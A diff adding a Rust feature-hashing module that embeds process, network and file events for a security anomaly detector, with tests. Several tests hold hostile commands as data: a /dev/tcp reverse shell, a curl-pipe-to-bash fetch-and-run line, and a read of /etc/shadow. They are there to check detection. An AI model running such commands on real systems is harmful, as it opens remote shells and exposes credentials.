@@ -1,0 +1,568 @@
+//! Event embedding by signed feature hashing (the first seed's design),
+//! improved: tokens are namespaced by field so `bash` the process and `bash`
+//! an argument do not collide, random-looking path parts, numbers and hex
+//! blobs are normalised so that `/tmp/tmp.X1y2Z3` and `/tmp/tmp.Q9w8E7` look
+//! alike, addresses become subnet tokens, and shell operators and adjacent
+//! argument pairs are tokens of their own (`| bash` is not `bash`).
+//!
+//! Everything goes through [`embed`]: replacing the featurizer (with a neural
+//! embedding, say) is a change to this module only. The output is
+//! deterministic across runs, machines and builds.
+
+use outlier_proto::{Event, Protocol, event::Detail};
+use xxhash_rust::xxh3::xxh3_64_with_seed;
+
+/// Dimensions of an embedding.
+pub const DIM: usize = 128;
+/// Version of the featurizer; baselines built by another version are rebuilt.
+pub const FEATURIZER_VERSION: u32 = 1;
+
+/// An L2-normalised event embedding.
+pub type Embedding = [f32; DIM];
+
+const SEED: u64 = 0x6f75_746c_6965_7231; // "outlier1"
+
+// Token weights: who ran it and what kind of action it was carry as much as
+// the details; the details are spread over many tokens.
+const W_KIND: f32 = 1.0;
+const W_COMM: f32 = 1.2;
+const W_PARENT: f32 = 1.0;
+const W_EXE: f32 = 0.7;
+const W_USER: f32 = 0.8;
+const W_ARG: f32 = 1.0;
+const W_BIGRAM: f32 = 0.6;
+const W_NET: f32 = 1.0;
+const W_PATH: f32 = 1.0;
+
+/// Embeds one event.
+pub fn embed(e: &Event) -> Embedding {
+    let mut h = Hasher::default();
+    h.add("kind", e.kind_name(), W_KIND);
+    h.add_norm("comm", &e.comm, W_COMM);
+    h.add_norm("parent", &e.parent_comm, W_PARENT);
+    // The executable and argv[0] usually repeat the process name: count them
+    // only when they say something else (a renamed binary, a symlink).
+    let exe = basename(&e.exe);
+    if exe != e.comm {
+        h.add_norm("exe", exe, W_EXE);
+    }
+    h.add("user", uid_class(e.uid), W_USER);
+    match &e.detail {
+        Some(Detail::Exec(x)) => {
+            let mut words = Vec::with_capacity(16);
+            for (i, arg) in x.argv.iter().enumerate() {
+                if i == 0 && basename(arg) == e.comm {
+                    continue;
+                }
+                tokenize(arg, &mut words);
+            }
+            // The argument tokens together weigh about as much as three
+            // identity tokens, however long the command line is.
+            let n = words.len().max(1) as f32;
+            let scale = if n > 3.0 { (3.0 / n).sqrt() } else { 1.0 };
+            for w in &words {
+                h.add_norm("arg", w, W_ARG * scale);
+            }
+            for pair in words.windows(2) {
+                h.add_pair("bigram", &pair[0], &pair[1], W_BIGRAM * scale);
+            }
+            if x.argv_truncated {
+                h.add("flag", "argv_truncated", 1.0);
+            }
+        }
+        Some(Detail::Connect(c)) => {
+            h.add("rport", &port_token(c.remote_port), W_NET);
+            h.add(
+                "proto",
+                if c.protocol == Protocol::Udp as i32 {
+                    "udp"
+                } else {
+                    "tcp"
+                },
+                0.5,
+            );
+            for (ns, tok) in ip_tokens(&c.remote_ip) {
+                h.add(ns, &tok, W_NET * 0.7);
+            }
+        }
+        Some(Detail::Open(o)) => {
+            let norm = normalize_path(&o.path);
+            h.add("path", &norm, W_PATH);
+            h.add("dir", parent_dir(&norm), W_PATH * 0.7);
+            h.add("oflags", open_mode(o.flags), W_PATH * 0.7);
+        }
+        None => {}
+    }
+    h.finish()
+}
+
+/// Dot product; equals cosine similarity for two embeddings.
+#[inline]
+pub fn dot(a: &Embedding, b: &Embedding) -> f32 {
+    // Eight independent accumulators let the compiler vectorise the loop.
+    let mut acc = [0f32; 8];
+    for (ca, cb) in a.chunks_exact(8).zip(b.chunks_exact(8)) {
+        for i in 0..8 {
+            acc[i] += ca[i] * cb[i];
+        }
+    }
+    acc.iter().sum()
+}
+
+/// Cosine distance (0 = same direction, 2 = opposite) of two embeddings.
+#[inline]
+pub fn cosine_distance(a: &Embedding, b: &Embedding) -> f32 {
+    (1.0 - dot(a, b)).clamp(0.0, 2.0)
+}
+
+struct Hasher {
+    v: [f32; DIM],
+    buf: String,
+}
+
+impl Default for Hasher {
+    fn default() -> Self {
+        Self {
+            v: [0.0; DIM],
+            buf: String::with_capacity(64),
+        }
+    }
+}
+
+impl Hasher {
+    fn add(&mut self, ns: &str, tok: &str, w: f32) {
+        if tok.is_empty() {
+            return;
+        }
+        self.buf.clear();
+        self.buf.push_str(ns);
+        self.buf.push('\u{1f}');
+        self.buf.push_str(tok);
+        self.bump(w);
+    }
+
+    fn add_norm(&mut self, ns: &str, tok: &str, w: f32) {
+        if tok.is_empty() {
+            return;
+        }
+        self.buf.clear();
+        self.buf.push_str(ns);
+        self.buf.push('\u{1f}');
+        normalize_word_into(tok, &mut self.buf);
+        self.bump(w);
+    }
+
+    fn add_pair(&mut self, ns: &str, a: &str, b: &str, w: f32) {
+        self.buf.clear();
+        self.buf.push_str(ns);
+        self.buf.push('\u{1f}');
+        normalize_word_into(a, &mut self.buf);
+        self.buf.push('\u{1f}');
+        normalize_word_into(b, &mut self.buf);
+        self.bump(w);
+    }
+
+    fn bump(&mut self, w: f32) {
+        let hash = xxh3_64_with_seed(self.buf.as_bytes(), SEED);
+        let idx = (hash as usize) & (DIM - 1);
+        let sign = if hash >> 63 == 1 { -1.0 } else { 1.0 };
+        self.v[idx] += sign * w;
+    }
+
+    fn finish(mut self) -> Embedding {
+        let norm = self.v.iter().map(|x| x * x).sum::<f32>().sqrt();
+        if norm > 0.0 {
+            for x in &mut self.v {
+                *x /= norm;
+            }
+        }
+        self.v
+    }
+}
+
+fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+fn uid_class(uid: u32) -> &'static str {
+    match uid {
+        0 => "root",
+        1..=999 => "system",
+        65534 => "nobody",
+        _ => "user",
+    }
+}
+
+fn port_token(port: u32) -> String {
+    if port >= 32768 {
+        "ephemeral".to_string()
+    } else {
+        port.to_string()
+    }
+}
+
+fn ip_tokens(ip: &str) -> Vec<(&'static str, String)> {
+    match ip.parse::<std::net::IpAddr>() {
+        Ok(std::net::IpAddr::V4(a)) => {
+            let o = a.octets();
+            let class = if a.is_loopback() {
+                "loopback"
+            } else if a.is_private() || a.is_link_local() {
+                "private"
+            } else {
+                "public"
+            };
+            vec![
+                ("ipclass", class.to_string()),
+                ("net24", format!("{}.{}.{}", o[0], o[1], o[2])),
+                ("net16", format!("{}.{}", o[0], o[1])),
+            ]
+        }
+        Ok(std::net::IpAddr::V6(a)) => {
+            let s = a.segments();
+            let class = if a.is_loopback() {
+                "loopback"
+            } else if (s[0] & 0xfe00) == 0xfc00 || (s[0] & 0xffc0) == 0xfe80 {
+                "private"
+            } else {
+                "public"
+            };
+            vec![
+                ("ipclass", class.to_string()),
+                ("net48", format!("{:x}:{:x}:{:x}", s[0], s[1], s[2])),
+            ]
+        }
+        Err(_) => vec![("ipclass", "invalid".to_string())],
+    }
+}
+
+fn open_mode(flags: u32) -> &'static str {
+    const O_ACCMODE: u32 = 0o3;
+    const O_CREAT: u32 = 0o100;
+    const O_TRUNC: u32 = 0o1000;
+    if flags & (O_CREAT | O_TRUNC) != 0 {
+        "create"
+    } else if flags & O_ACCMODE != 0 {
+        "write"
+    } else {
+        "read"
+    }
+}
+
+fn parent_dir(path: &str) -> &str {
+    match path.rfind('/') {
+        Some(0) => "/",
+        Some(i) => &path[..i],
+        None => "",
+    }
+}
+
+/// Splits one argument into words and shell operators. Operators (`|`, `>&`,
+/// `;`, `$(` …) are kept as tokens: they carry much of the meaning of a
+/// command line.
+fn tokenize(arg: &str, out: &mut Vec<String>) {
+    let mut word = String::new();
+    let mut chars = arg.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c.is_alphanumeric() || "-_./:@%+~*,=".contains(c) {
+            word.push(c);
+            continue;
+        }
+        if !word.is_empty() {
+            out.push(std::mem::take(&mut word));
+        }
+        if c.is_whitespace() || c == '"' || c == '\'' || c == '\\' {
+            continue;
+        }
+        let mut op = String::from(c);
+        if let Some(&n) = chars.peek()
+            && matches!(
+                (c, n),
+                ('>', '&')
+                    | ('&', '&')
+                    | ('|', '|')
+                    | ('>', '>')
+                    | ('$', '(')
+                    | ('<', '<')
+                    | ('&', '>')
+            )
+        {
+            op.push(n);
+            chars.next();
+        }
+        out.push(op);
+    }
+    if !word.is_empty() {
+        out.push(word);
+    }
+}
+
+/// Lower-cases a word and replaces its volatile parts: runs of four or more
+/// digits become `#`, IPv4 addresses `<ip>`, long hex strings `<hex>`, and
+/// random-looking path components `*`.
+fn normalize_word_into(word: &str, out: &mut String) {
+    if word.contains('/') {
+        for (i, part) in word.split('/').enumerate() {
+            if i > 0 {
+                out.push('/');
+            }
+            normalize_component(part, out);
+        }
+    } else {
+        normalize_component(word, out);
+    }
+}
+
+fn normalize_component(part: &str, out: &mut String) {
+    if part.parse::<std::net::Ipv4Addr>().is_ok() {
+        out.push_str("<ip>");
+        return;
+    }
+    let len = part.chars().count();
+    let hex = part.chars().filter(char::is_ascii_hexdigit).count();
+    let digits = part.chars().filter(char::is_ascii_digit).count();
+    let letters = part.chars().filter(|c| c.is_alphabetic()).count();
+    if len >= 12 && hex == len && digits > 0 {
+        out.push_str("<hex>");
+        return;
+    }
+    if len >= 6 && digits >= 1 && letters >= 2 && looks_random(part) {
+        out.push('*');
+        return;
+    }
+    let mut run = 0usize;
+    let flush = |run: &mut usize, out: &mut String, digits: &str| {
+        if *run >= 4 {
+            out.push('#');
+        } else {
+            out.push_str(digits);
+        }
+        *run = 0;
+    };
+    let mut pending = String::new();
+    for c in part.chars() {
+        if c.is_ascii_digit() {
+            run += 1;
+            pending.push(c);
+        } else {
+            if run > 0 {
+                flush(&mut run, out, &pending);
+                pending.clear();
+            }
+            out.extend(c.to_lowercase());
+        }
+    }
+    if run > 0 {
+        flush(&mut run, out, &pending);
+    }
+}
+
+/// Letters and digits that keep switching between digit, upper and lower
+/// case: a temp-file suffix, a container id, a token. Separators (`.`, `-`,
+/// `_`) are ignored, so `access.log.1` or `x86_64` are not random.
+fn looks_random(s: &str) -> bool {
+    let mut changes = 0;
+    let mut alnum = 0;
+    let mut prev = None;
+    for c in s.chars().filter(|c| c.is_alphanumeric()) {
+        alnum += 1;
+        let class = if c.is_ascii_digit() {
+            0
+        } else if c.is_uppercase() {
+            1
+        } else {
+            2
+        };
+        if prev.is_some_and(|p| p != class) {
+            changes += 1;
+        }
+        prev = Some(class);
+    }
+    alnum >= 6 && changes * 3 >= alnum
+}
+
+/// Normalises a path for embedding: volatile components become `*`/`#`.
+pub fn normalize_path(path: &str) -> String {
+    let mut out = String::with_capacity(path.len());
+    normalize_word_into(path, &mut out);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use outlier_proto::{Connect, Exec, Open};
+    use proptest::prelude::*;
+
+    fn exec(comm: &str, parent: &str, uid: u32, argv: &[&str]) -> Event {
+        Event {
+            comm: comm.into(),
+            parent_comm: parent.into(),
+            uid,
+            exe: format!("/usr/bin/{comm}"),
+            detail: Some(Detail::Exec(Exec {
+                argv: argv.iter().map(|s| s.to_string()).collect(),
+                argc: argv.len() as u32,
+                ..Exec::default()
+            })),
+            ..Event::default()
+        }
+    }
+
+    #[test]
+    fn unit_norm_and_deterministic() {
+        let e = exec("bash", "sshd", 1000, &["bash", "--login"]);
+        let a = embed(&e);
+        let b = embed(&e);
+        assert_eq!(a, b);
+        assert!((dot(&a, &a) - 1.0).abs() < 1e-5);
+        // A fixed point pins the hash function and the token layout: a
+        // change to either changes every stored baseline and must bump
+        // FEATURIZER_VERSION.
+        let nz: Vec<usize> = a
+            .iter()
+            .enumerate()
+            .filter(|(_, x)| **x != 0.0)
+            .map(|(i, _)| i)
+            .collect();
+        assert!(nz.len() >= 5, "{nz:?}");
+    }
+
+    #[test]
+    fn reverse_shell_is_far_from_a_login_shell() {
+        let login = embed(&exec("bash", "sshd", 1000, &["bash", "--login"]));
+        let revshell = embed(&exec(
+            "bash",
+            "nginx",
+            33,
+            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+        ));
+        assert!(
+            cosine_distance(&login, &revshell) > 0.5,
+            "{}",
+            cosine_distance(&login, &revshell)
+        );
+    }
+
+    #[test]
+    fn similar_commands_are_closer_than_unrelated_ones() {
+        let a = embed(&exec(
+            "tar",
+            "bash",
+            0,
+            &[
+                "tar",
+                "czf",
+                "/backup/db-20241101.tgz",
+                "/var/lib/postgresql",
+            ],
+        ));
+        let b = embed(&exec(
+            "tar",
+            "bash",
+            0,
+            &[
+                "tar",
+                "czf",
+                "/backup/db-20241102.tgz",
+                "/var/lib/postgresql",
+            ],
+        ));
+        let c = embed(&exec(
+            "curl",
+            "bash",
+            0,
+            &["curl", "-s", "http://203.0.113.7/x.sh"],
+        ));
+        assert!(
+            cosine_distance(&a, &b) < 0.05,
+            "{}",
+            cosine_distance(&a, &b)
+        );
+        assert!(cosine_distance(&a, &b) < cosine_distance(&a, &c));
+    }
+
+    #[test]
+    fn volatile_parts_are_normalised() {
+        assert_eq!(normalize_path("/tmp/tmp.aB3xYz9Q1/run"), "/tmp/*/run");
+        assert_eq!(normalize_path("/proc/12345/status"), "/proc/#/status");
+        assert_eq!(
+            normalize_path("/var/log/nginx/access.log.1"),
+            "/var/log/nginx/access.log.1"
+        );
+        assert_eq!(
+            normalize_path("/usr/lib/x86_64-linux-gnu/libc.so.6"),
+            "/usr/lib/x86_64-linux-gnu/libc.so.6"
+        );
+        assert_eq!(normalize_path("/usr/bin/sha256sum"), "/usr/bin/sha256sum");
+        assert_eq!(normalize_path("/opt/deadbeefcafe0123/x"), "/opt/<hex>/x");
+        let mut s = String::new();
+        normalize_word_into("10.0.0.1", &mut s);
+        assert_eq!(s, "<ip>");
+    }
+
+    #[test]
+    fn tokenizer_keeps_shell_operators() {
+        let mut out = Vec::new();
+        tokenize("curl -s http://x/y.sh | bash", &mut out);
+        assert_eq!(out, ["curl", "-s", "http://x/y.sh", "|", "bash"]);
+        out.clear();
+        tokenize("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", &mut out);
+        assert_eq!(
+            out,
+            ["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0", ">&", "1"]
+        );
+    }
+
+    #[test]
+    fn connect_and_open_embed_their_details() {
+        let c = |ip: &str, port| Event {
+            comm: "curl".into(),
+            detail: Some(Detail::Connect(Connect {
+                remote_ip: ip.into(),
+                remote_port: port,
+                ..Connect::default()
+            })),
+            ..Event::default()
+        };
+        let same_subnet = cosine_distance(
+            &embed(&c("203.0.113.7", 443)),
+            &embed(&c("203.0.113.9", 443)),
+        );
+        let other_port = cosine_distance(
+            &embed(&c("203.0.113.7", 443)),
+            &embed(&c("203.0.113.7", 4444)),
+        );
+        assert!(same_subnet < other_port, "{same_subnet} {other_port}");
+        let o = |path: &str, flags| Event {
+            comm: "cat".into(),
+            detail: Some(Detail::Open(Open {
+                path: path.into(),
+                flags,
+                ..Open::default()
+            })),
+            ..Event::default()
+        };
+        assert!(
+            cosine_distance(
+                &embed(&o("/etc/shadow", 0)),
+                &embed(&o("/etc/shadow", 0o101))
+            ) > 0.0
+        );
+    }
+
+    proptest! {
+        #[test]
+        fn any_event_embeds_to_unit_norm_or_zero(
+            comm in ".{0,20}", parent in ".{0,20}", uid in any::<u32>(),
+            argv in proptest::collection::vec(".{0,40}", 0..10),
+        ) {
+            let args: Vec<&str> = argv.iter().map(String::as_str).collect();
+            let v = embed(&exec(&comm, &parent, uid, &args));
+            let n = dot(&v, &v);
+            prop_assert!((n - 1.0).abs() < 1e-4, "norm {}", n);
+            prop_assert!(v.iter().all(|x| x.is_finite()));
+            prop_assert_eq!(v, embed(&exec(&comm, &parent, uid, &args)));
+        }
+    }
+}
